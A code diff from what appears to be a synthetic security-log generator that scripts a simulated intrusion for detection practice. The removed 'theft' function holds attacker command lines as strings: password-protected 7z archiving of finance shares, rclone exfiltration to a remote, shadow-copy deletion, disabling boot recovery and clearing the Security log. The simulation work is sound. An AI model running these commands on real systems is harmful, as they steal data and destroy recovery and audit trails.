@@ -1,22 +1,14 @@
 import { type Company, domain } from './company';
 import { createFoothold, type Foothold, stolenAccount } from './foothold';
 import { hostNamed } from './hosts';
-import { taskRow } from './noise/servers';
+import type { Stage } from './intrusion-stage';
+import { theft } from './intrusion-theft';
 import type { Random } from './random';
 import { type Emit, minute, second } from './row';
-import { domainRunner, type Process } from './rows/process';
+import type { Process } from './rows/process';
 import { logonRow, securityRow, subject } from './rows/security-event';
+import { taskRow } from './rows/task';
 import { intruder, type StoryClock, victims } from './story';
-
-interface Stage {
-  company: Company;
-  clock: StoryClock;
-  random: Random;
-  account: ReturnType<typeof stolenAccount>;
-  desk: Foothold;
-  shell: Process;
-  machine(name: string): Foothold;
-}
 
 /** With the administrator's password: application server, file server, management server, domain controller. */
 export function intrusionOnServers(
@@ -267,60 +259,4 @@ function domainController(stage: Stage, from: Foothold): void {
       MemberSid: sid,
     }),
   );
-}
-
-/** On the file server: pack, carry away, make recovery hard, clear the log. */
-function theft(stage: Stage, shell: Process): void {
-  const target = stage.machine(victims.fileServer);
-  const { random, clock } = stage;
-  for (let part = 1; part <= 4; part++) {
-    const at = clock.at('archive') + part * 17 * minute;
-    const archive = target.start(shell, {
-      file: '7z.exe',
-      at,
-      commandLine: `7z.exe a -t7z -mx1 -mhe=on -pK7!fern -v1g ${intruder.folder}\\f${part}.7z D:\\Shares\\Finance\\${2022 + part}`,
-    });
-    target.change(archive, at + 11 * minute, {
-      action: 'FileCreated',
-      folder: intruder.folder,
-      file: `f${part}.7z`,
-      size: random.int(700_000_000, 1_000_000_000),
-    });
-  }
-  const out = clock.at('exfiltration');
-  const copy = target.start(shell, {
-    file: intruder.renamedRclone,
-    folder: intruder.folder,
-    at: out,
-    originalName: 'rclone.exe',
-    commandLine: `${intruder.renamedRclone} copy ${intruder.folder} cold:fh-archive --include "*.7z" --transfers 8 --config ${intruder.folder}\\gfx.conf --no-check-certificate`,
-  });
-  for (let at = out; at < out + 95 * minute; at += random.int(20, 60) * second)
-    target.connect(copy, at, intruder.dropAddress, 443, intruder.dropName);
-
-  const wipe = clock.at('no-recovery');
-  target.start(shell, { file: 'vssadmin.exe', at: wipe, commandLine: 'vssadmin.exe delete shadows /all /quiet' });
-  target.start(shell, {
-    file: 'bcdedit.exe',
-    at: wipe + 12 * second,
-    commandLine: 'bcdedit.exe /set {default} recoveryenabled No',
-  });
-  for (const [index, name] of [victims.fileServer, victims.managementServer].entries()) {
-    const at = clock.at('log-cleared') + index * 4 * minute;
-    const machine = stage.machine(name);
-    const runner = domainRunner({ sam: intruder.newAccount, sid: 'S-1-5-21-2041187693-1187402311-3380925641-3127' });
-    machine.start(index === 0 ? shell : null, {
-      file: 'wevtutil.exe',
-      at,
-      commandLine: 'wevtutil.exe cl Security',
-      ...(index === 0 ? {} : { runner, integrity: 'High' as const }),
-    });
-    machine.put(
-      'SecurityEvent',
-      at + second,
-      securityRow(machine.host, 1102, {
-        ...subject({ sam: intruder.newAccount, sid: runner.sid }, `0x${random.hex(6)}`),
-      }),
-    );
-  }
 }
